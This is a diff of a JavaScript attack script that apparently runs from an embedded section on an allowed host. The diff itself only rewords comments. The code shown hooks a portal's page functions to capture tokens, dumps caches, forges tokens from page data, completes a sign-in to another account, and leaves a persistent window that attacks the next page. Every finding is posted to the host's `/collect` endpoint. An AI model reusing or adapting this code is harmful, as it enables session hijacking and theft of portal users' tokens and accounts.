@@ -1,4 +1,5 @@
-// A section on an allowed host that is after tokens. Each technique is a row; `/collect` of its host gets what it found.
+// A section on an allowed host that tries to steal tokens. Each technique is a row; results are posted to
+// `/collect` of its host.
 
 const host = new URL('.', import.meta.url).href;
 const seen = [];
@@ -16,7 +17,7 @@ const toText = (value) => {
 const send = (row, got) =>
   native.fetch(`${host}collect`, { method: 'POST', body: stringify({ row, got: toText(got) }) });
 
-/** Puts a function before each of the page's own that a token could pass through. */
+/** Wraps each of the page's functions that a token could pass through. */
 function hook(page, where) {
   const note = (name, values) => seen.push(`${where} ${name}: ${values.map(toText).join(' ')}`);
   const before = (owner, name) => {
@@ -67,7 +68,7 @@ const getSession = () => readPageData().sessions?.current?.id ?? '';
 const describeAnswer = async (answer) =>
   `${answer.status} ${toText([...answer.headers])} ${await answer.text()}`;
 
-/** A request as the portal's own scripts make it. */
+/** A request like those of the portal's own scripts. */
 const ask = async (path, init = {}) =>
   describeAnswer(
     await native.fetch(path, {
@@ -104,7 +105,7 @@ async function dumpCaches() {
   return found;
 }
 
-/** A document of the portal in a frame or a window, with hooks as early as possible. */
+/** Hooks a document of the portal in a frame or a window as early as possible. */
 async function watch(target, where) {
   const hooked = new WeakSet();
   for (let tries = 0; tries < 150; tries += 1) {
@@ -146,7 +147,7 @@ const registerWorker = (script, options) =>
     (error) => `refused: ${error.name}`,
   );
 
-/** What a signed-out page's client would send, with tokens made of what the page knows. */
+/** What the client of a signed-out page would send, with tokens forged from the page's data. */
 async function getTokenTexts() {
   const encode = (value) =>
     btoa(JSON.stringify(value)).replaceAll('=', '').replaceAll('+', '-').replaceAll('/', '_');
@@ -203,7 +204,7 @@ async function tryActions() {
   return found;
 }
 
-/** Completes a sign-in of another account that the section's own host has begun at the provider. */
+/** Completes a sign-in to another account that the section's host has started at the provider. */
 const completeSignIn = async () => {
   const { client } = readPageData().identity;
   return describeAnswer(
@@ -223,7 +224,7 @@ const completeSignIn = async () => {
   );
 };
 
-/** A window of this host's script that outlives the signed-in page, and looks for the page that follows. */
+/** Opens a window with this host's script that outlives the signed-in page and attacks the next one. */
 function leaveWatcher() {
   const opened = window.open('about:blank', 'watcher');
   const script = opened.document.createElement('script');
@@ -280,7 +281,7 @@ async function tryAll() {
       .catch((error) => `failed: ${String(error)}`);
     await send(row, got);
   }
-  // What the portal does by itself when a person comes back to the page, and a call of its own.
+  // Simulates a return to the page, which makes the portal send calls, and sends a call of its own.
   window.dispatchEvent(new Event('focus'));
   document.dispatchEvent(new Event('visibilitychange'));
   await send('a call of the portal', await portal.http('api').get('/notifications/all').catch(String));
